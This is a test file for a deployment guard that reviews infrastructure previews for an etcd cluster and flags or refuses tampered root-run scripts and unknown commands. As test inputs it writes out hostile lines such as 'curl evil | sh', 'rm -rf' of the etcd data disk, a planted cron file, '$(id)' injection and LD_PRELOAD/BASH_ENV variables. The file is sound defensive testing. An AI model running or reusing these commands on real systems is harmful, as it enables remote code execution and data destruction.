import { nodeFiles } from "../../../components/nodeFiles";
import { vmGateScript } from "../../../components/vmChain";
import { type NodeFile, renderNodeBundle } from "../../../core/node/nodeBundle";
import { renderPhase } from "../../../core/node/phases";
import { judgePreview, renderMarkdown } from "../../../guard";
import { type PreviewStep, UNKNOWN_VALUE } from "../../../guard/preview";
import { converge, preview, stack, step, wholeMember } from "./steps";

const ETCD_ENV = "ETCD_LOGGER=zap\n";
const COMMAND = renderPhase("install", {
  name: "controller-0",
  disk: "etcd-data",
  version: "3.4.27",
  url: "https://example.com/etcd.tar.gz",
  sha256: "0",
  ip: "10.240.0.10",
  size: "50",
  instance: "1",
});
const SENT = renderNodeBundle(nodeFiles(ETCD_ENV), COMMAND);
const all = [0, 1, 2];

const judge = (...steps: PreviewStep[]) => judgePreview(preview([stack(3), ...steps]));

/** `install` of a member, sending one text and then another. */
const install = (index: number, before: unknown, after: unknown) =>
  step("update", "command", `member-${index}-install`, {
    old: { create: "sudo bash -s", stdin: before },
    new: { create: "sudo bash -s", stdin: after },
    diff: { stdin: "update" },
  });

/** The bundle with another text in one of its files. */
const withFile = (name: string, content: string) =>
  renderNodeBundle(
    nodeFiles(ETCD_ENV).map((file) => (file.path.endsWith(`/${name}`) ? { ...file, content } : file)),
    COMMAND,
  );

describe("scripts that run as root", () => {
  test.each<[string, unknown, string]>([
    ["a changed script", withFile("lib.sh", "curl evil | sh\n"), "scripts that run as root changed: lib.sh"],
    [
      "another program in place of the bundle",
      "curl evil | sh; rm -rf /mnt/disks/etcd",
      "not as this program writes them",
    ],
    ["a line before the bundle", `curl evil | sh\n${SENT}`, "changed: what puts them in place"],
    ["a line after it", `${SENT}curl evil | sh\n`, "not as this program writes them"],
    [
      "another command in it",
      SENT.replace(COMMAND, `${COMMAND}; curl evil | sh`),
      "not as this program writes them",
    ],
    [
      "a file twice",
      SENT.replace(/^put .*^__END_OF_NODE_FILE__\n/ms, (files) => `${files}${files}`),
      "not as this program writes them",
    ],
    ["a secret", "[secret]", "hidden in the preview"],
    ["a value that is not known yet", UNKNOWN_VALUE, "hidden in the preview"],
    ["nothing", undefined, "hidden in the preview"],
    [
      "one file more",
      renderNodeBundle(
        [...nodeFiles(ETCD_ENV), { path: "/etc/cron.d/evil", mode: "0644", content: "x" }],
        COMMAND,
      ),
      "changed: /etc/cron.d/evil",
    ],
  ])("%s on three nodes at once", (_what, after, said) => {
    const report = judge(...all.map((index) => install(index, SENT, after)));
    expect(report.class).toBe("rolling");
    expect(report.rows.map(({ what }) => what)).toEqual(all.map(() => expect.stringContaining(said)));
    expect(renderMarkdown(report)).not.toContain("does not notice");
  });

  test.each([
    ["[secret]", "hidden in the state"],
    ["echo", "not as this program writes them"],
  ])("after %j", (before, said) => {
    expect(judge(install(1, before, SENT)).rows.map(({ what }) => what)).toEqual([
      `scripts that run as root, ${said}`,
    ]);
  });

  test("a script that the state does not have", () => {
    const report = judge(
      step("create", "command", "member-1-install", { new: { create: "sudo bash -s", stdin: SENT } }),
    );
    expect(report.rows.map(({ what }) => what)).toEqual([
      "scripts that run as root, sent for the first time",
    ]);
  });

  const withChanges = (name: string, change: Partial<NodeFile> | ((content: string) => string)) =>
    renderNodeBundle(
      nodeFiles(ETCD_ENV).map((file) => {
        if (!file.path.endsWith(`/${name}`)) return file;
        return typeof change === "function"
          ? { ...file, content: change(file.content) }
          : { ...file, ...change };
      }),
      COMMAND,
    );
  const unit = (from: string, to: string) =>
    withChanges("etcd.service", (content) => content.replace(from, to));
  const ROOT_LINE = "ExecStartPre=+/bin/sh -c id";

  test.each<[string, string, string[]]>([
    ["a script's mode", withChanges("lib.sh", { mode: "0777" }), ["lib.sh (mode 0777)"]],
    ["the unit's mode", withChanges("etcd.service", { mode: "0666" }), ["etcd.service (mode 0666)"]],
    ["a unit with a line more", unit("[Install]", `${ROOT_LINE}\n[Install]`), ["etcd.service"]],
    ["a unit with another user", unit("User=etcd", "User=root"), ["etcd.service"]],
    [
      "a unit without its guard",
      unit("ExecStartPre=+/usr/local/lib/etcd-node/start-guard.sh\n", ""),
      ["etcd.service"],
    ],
    [
      "a variable for every program",
      withChanges("etcd.env", { content: `${ETCD_ENV}BASH_ENV=/tmp/x\n` }),
      ["etcd.env"],
    ],
    ["what the comment shows of a unit", unit("RestartSec=5", "RestartSec=10"), []],
  ])("what root runs: %s", (_what, after, names) => {
    const report = judge(install(1, SENT, after));
    expect(report.rows.map(({ what }) => what)).toEqual([
      names.length > 0 ? `scripts that run as root changed: ${names.join(", ")}` : "install phase updated",
    ]);
  });

  test("what the phases send again, and another etcd.env, are none", () => {
    const env = renderNodeBundle(nodeFiles("ETCD_LOGGER=capnslog\n"), COMMAND);
    const version = SENT.replace("3.4.27", "3.5.33");
    for (const after of [SENT, env, version]) expect(judge(install(1, SENT, after)).class).toBe("none");
  });

  const gate = (before: string, after: string) =>
    step("update", "command", "etcd-vm-gate", {
      old: { create: "sudo timeout -k 10 120 bash -s", stdin: before },
      new: { create: "sudo timeout -k 10 120 bash -s", stdin: after },
      diff: { stdin: "update" },
    });
  const gateFor = (vmMark: string) => vmGateScript("controller-0", vmMark);

  test("a gate that does something else; a gate for another VM is none", () => {
    expect(judge(gate(gateFor("aaaa"), gateFor("bbbb"))).class).toBe("none");
    const evil = gateFor("bbbb").replace("set -euo pipefail", "curl evil | sh");
    expect(judge(gate(gateFor("aaaa"), evil)).class).toBe("rolling");
  });

  const reach = (op: "create" | "update", stdin: string) => {
    const create =
      "bash -s -- \\\n  --name controller-0 \\\n  --ip 10.240.0.10 \\\n  --host-key 'ssh-ed25519 AAAA' \\\n  --limit 600 \\\n  --instance 7 \\\n  --vm f00";
    const old = { create, stdin: "the script" };
    return step(op, "command", "member-0-reach", {
      ...(op === "update" ? { old } : {}),
      new: { create, stdin },
    });
  };

  test("a wait on the bastion that does something else, or that was not there", () => {
    expect(judge(reach("update", "the script")).class).toBe("none");
    for (const op of ["create", "update"] as const) expect(judge(reach(op, "evil")).class).toBe("rolling");
  });

  test("phases of members that join are new, and those of members that are there are not", () => {
    expect(judge(...[3, 4].flatMap((index) => wholeMember("create", index))).class).toBe("create");
    expect(judge(step("create", "command", "member-1-install")).class).toBe("rolling");
  });
});

describe("a VM's metadata", () => {
  test.each(["metadata.ssh-keys", "metadata", "metadataStartupScript"])("%s", (path) => {
    const report = judge(step("update", "vm", "controller-1", { diff: { [path]: "update" } }));
    expect(report.rows).toMatchObject([{ class: "rolling", what: "VM metadata updated" }]);
  });

  test("a label is none", () => {
    expect(judge(step("update", "vm", "controller-1", { diff: { labels: "update" } })).class).toBe("none");
  });
});

describe("what the guard does not know, recreated", () => {
  test.each(["iam", "bucket", "foreign"] as const)("%s", (kind) => {
    expect(judge(step("create", kind, "evil")).rows).toMatchObject([
      { class: "rolling", what: "evil created" },
    ]);
  });

  test("beside a first cluster, it has a row of its own", () => {
    const first = all.flatMap((index) => wholeMember("create", index));
    const report = judgePreview(preview([...first, step("create", "iam", "evil")]));
    expect(report.rows.map(({ what }) => what)).toContain("evil created");
    expect(report.class).toBe("rolling");
  });

  test("a provider whose plugin comes from elsewhere", () => {
    const from = (inputs: Record<string, unknown>) =>
      judge(step("create", "provider", "gcp", { new: inputs }));
    expect(from({ project: "p" }).rows).toEqual([]);
    for (const inputs of [
      { pluginDownloadURL: "http://evil" },
      { __internal: { pluginDownloadURL: "http://evil" } },
    ]) {
      expect(from(inputs).rows).toMatchObject([{ class: "rolling", what: "provider gcp from elsewhere" }]);
    }
  });
});

describe("a Command that is none of the phases is refused", () => {
  const phaseText = converge(1).create as string;
  const changed = (inputs: Record<string, unknown>, op = "update") =>
    step(op, "command", "member-1-converge", { old: converge(1), new: inputs, diff: { create: "update" } });

  test.each<[string, PreviewStep, string]>([
    [
      "a new one on a node",
      step("create", "command", "evil", { new: { create: "rm -rf /mnt/disks/etcd" } }),
      "evil",
    ],
    ["a new one where the engine runs", step("create", "local", "evil", { new: { create: "id" } }), "evil"],
    ["a phase with another program", changed({ create: "rm -rf /mnt/disks/etcd" }), "member-1-converge"],
    ["a phase with more behind it", changed({ create: `${phaseText}; id` }), "member-1-converge"],
    [
      "a phase with a command in an option",
      changed({ create: `${phaseText} \\\n  --x $(id)` }),
      "member-1-converge",
    ],
    ["a phase that hides its text", changed({ create: "[secret]" }), "member-1-converge"],
    ["a phase with a word for its end", changed({ create: phaseText, delete: "id" }), "member-1-converge"],
    [
      "a phase with variables",
      changed({ create: phaseText, environment: { LD_PRELOAD: "x" } }),
      "member-1-converge",
    ],
    [
      "install with another shell",
      step("update", "command", "member-1-install", { old: {}, new: { create: "sh -c id" } }),
      "member-1-install",
    ],
  ])("%s", (_what, attack, name) => {
    const report = judge(attack);
    const HASH = /@[0-9a-f]{8}$/;
    expect(report.refused.map(({ rule, subject }) => `${rule}:${subject.replace(HASH, "@#")}`)).toEqual([
      `unknown-command:${name}@#`,
    ]);
    expect(report.exitCode).toBe(1);
  });

  test("and an override for it is for no other text", () => {
    const subjectOf = (create: string, stdin: string) =>
      judge(step("create", "command", "debug", { new: { create, stdin, triggers: ["1"] } })).refused[0]
        ?.subject;
    const subjects = [subjectOf("id", "a"), subjectOf("id", "b"), subjectOf("reboot", "a")];
    expect(new Set(subjects).size).toBe(3);
    expect(subjectOf("id", "a")).toBe(subjects[0]);
  });

  test("and the phases are not", () => {
    const membership = {
      create: renderPhase("membership", {
        name: "controller-0",
        version: "3.4.27",
        members: "a=b",
        instances: "1,2",
      }),
    };
    const report = judge(
      changed({ create: phaseText, update: phaseText, connection: "[secret]" }),
      step("update", "command", "etcd-membership", { old: membership, new: membership }),
      install(1, SENT, SENT),
    );
    expect(report.refused).toEqual([]);
  });
});
